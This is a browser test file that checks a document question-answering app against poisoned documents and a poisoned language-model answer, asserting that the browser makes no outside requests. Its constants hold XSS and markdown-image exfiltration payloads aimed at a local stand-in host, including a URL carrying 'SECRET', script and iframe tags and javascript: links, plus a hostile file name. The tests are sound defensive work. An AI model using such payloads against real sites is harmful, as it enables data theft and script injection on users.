"""Poisoned documents and a poisoned model in a real browser: every request is recorded, none goes anywhere but home."""

import asyncio
import json
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from engine.assembly import Assembly
from engine.provider_views import Choice
from engine.settings import load_settings
from engine.types import Principal, Role
from tests.browser.test_main_job import NAME, PASSWORD
from tests.upstreams import openai
from tests.upstreams.server import KEY

pytestmark = [pytest.mark.browser, pytest.mark.data]
expect.set_options(timeout=30_000)
ADMIN = Principal(user_id="local", name="test", role=Role.ADMIN)
LATER = {".json", ".eml"}  # types that no loader reads yet
HOSTILE_ANSWER = (
    "Refunds take 37 days [1]. ![x](http://127.0.0.1:9/a?q=SECRET) <img src='http://127.0.0.1:9/b' onerror='alert(1)'> "
    "[click](javascript:alert(1)) [ref][r] ![ref][r] <script>fetch('http://127.0.0.1:9/c')</script> http://127.0.0.1:9/d "
    "<iframe src='http://127.0.0.1:9/e'></iframe> $$\\href{http://127.0.0.1:9/f}{x}$$ :material/home: <style>@import 'http://127.0.0.1:9/g'</style>\n\n"
    "[r]: http://127.0.0.1:9/h\n"
)
PAGE = b"""<html><head><title>Quokka <script>fetch('http://127.0.0.1:9/title')</script></title>
<link rel="stylesheet" href="http://127.0.0.1:9/css"></head><body><p>The quokka eats leaves.</p>
<img src="http://127.0.0.1:9/img" onerror="alert(1)"><script>fetch('http://127.0.0.1:9/js')</script>
<iframe src="http://127.0.0.1:9/frame"></iframe><p>![m](http://127.0.0.1:9/md) [l](javascript:alert(1))</p></body></html>"""
NASTY_NAME = "<img src=http://127.0.0.1:9/name onerror=alert(1)> ![x](http://127.0.0.1:9/n).html"


async def prepare(folder, documents):
    """Make an admin and one collection with the poisoned documents; return the names of those that can be asked about."""
    async with Assembly(load_settings(data_dir=folder)).opened(serve=False) as workbench:
        await workbench.create_user(ADMIN, NAME, PASSWORD, Role.ADMIN)
        collection = await workbench.create_collection(ADMIN, "Poisoned ![c](http://127.0.0.1:9/collection)")
        for path in documents:
            await workbench.upload(ADMIN, collection.id, path.name, path.read_bytes())
        await workbench.upload(ADMIN, collection.id, NASTY_NAME, PAGE)
        await workbench.process(ADMIN, collection.id)
        return {info.name: info.id for info in await workbench.documents(ADMIN, collection.id) if info.state == "live"}


@pytest.fixture
def poisoned(tmp_path, test_data):
    folder = test_data / "injection" / "docs"
    rows = [json.loads(line) for line in (folder.parent / "docs_manifest.jsonl").read_text(encoding="utf-8").splitlines()]
    rows = [row for row in rows if not row["file"].endswith(tuple(LATER))]
    documents = asyncio.run(prepare(tmp_path, [folder / row["file"] for row in rows]))
    return tmp_path, rows, documents


@pytest.fixture
def foreign(page):
    """Every request of the browser that does not go to the app itself, and every script that asks for attention."""
    seen = []

    def note(request):
        host = urlsplit(request.url).netloc
        if request.url.startswith(("http", "ws")) and host != urlsplit(page.url).netloc and page.url != "about:blank":
            seen.append(request.url)

    page.on("request", note)
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    return seen


def sign_in(page, server):
    page.goto(f"{server.url}/login")
    page.get_by_label("User name").fill(NAME)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_test_id("stChatInputTextArea").wait_for()


def ask(page, question):
    """Ask in the open conversation, wait for the end of the answer, and return its text."""
    messages = page.get_by_test_id("stChatMessage")
    page.wait_for_timeout(500)
    before = messages.count()
    page.get_by_test_id("stChatInputTextArea").fill(question)
    page.keyboard.press("Enter")
    expect(messages).to_have_count(before + 2)
    expect(messages.last).to_contain_text("How this answer was made", timeout=120_000)
    return messages.last.inner_text().replace("\u200b", "")


@pytest.mark.timeout(900)
def test_no_document_and_no_answer_makes_the_browser_call_anybody(poisoned, serve, page, foreign):
    folder, rows, documents = poisoned
    server = serve("app.py", WORKBENCH_DATA_DIR=str(folder), OMP_NUM_THREADS="1")
    server.wait_for("URL: http")
    sign_in(page, server)
    asked = {}
    for row in rows:
        asked[row["file"]] = ask(page, row["question"])
    # Each document and its pages; the quarantine and the list beside it.
    for document_id in documents.values():
        page.goto(f"{server.url}/documents?document={document_id}")
        page.get_by_text("All documents").wait_for()
        page.wait_for_timeout(700)
    for path in ("documents", "audit", "users", "providers", "health"):
        page.goto(f"{server.url}/{path}")
        page.get_by_role("heading").first.wait_for()
        page.wait_for_timeout(1500)
    assert foreign == []
    answered = [row["file"] for row in rows if row["answer"] in asked[row["file"]]]
    assert len(answered) >= len(rows) - 2, f"without their answer: {sorted({row['file'] for row in rows} - set(answered))}"


async def choose(folder, url):
    async with Assembly(load_settings(data_dir=folder)).opened(serve=False) as workbench:
        await workbench.add_provider(ADMIN, "openai", name="evil", base_url=url, key=KEY)
        seen = await workbench.choices(ADMIN)
        chain = (Choice(provider="evil", model="gpt-5-mini"), *seen.chain)
        await workbench.choose(ADMIN, expected_version=seen.version, chain=chain)


@pytest.fixture
def poisoned_model(poisoned):
    """A model that answers every question with everything that a page could be made to do."""
    with openai.upstream() as upstream:
        upstream.text = HOSTILE_ANSWER
        asyncio.run(choose(poisoned[0], upstream.url))  # before Playwright's own loop runs in this thread
        yield


@pytest.mark.timeout(600)
def test_an_answer_of_a_poisoned_model_is_words_and_nothing_else(poisoned, poisoned_model, serve, page, foreign):
    server = serve("app.py", WORKBENCH_DATA_DIR=str(poisoned[0]), OMP_NUM_THREADS="1")
    server.wait_for("URL: http")
    sign_in(page, server)
    shown = ask(page, "Within how many days are refund requests accepted?")
    assert "evil" in shown
    assert "37 days" in shown
    assert "![x](http://127.0.0.1:9/a?q=SECRET)" in shown
    message = page.get_by_test_id("stChatMessage").last
    live = "img[src*='127.0.0.1:9'], iframe, script, style, a[href*='127.0.0.1:9'], a[href^=javascript]"
    assert message.locator(live).count() == 0
    assert foreign == []
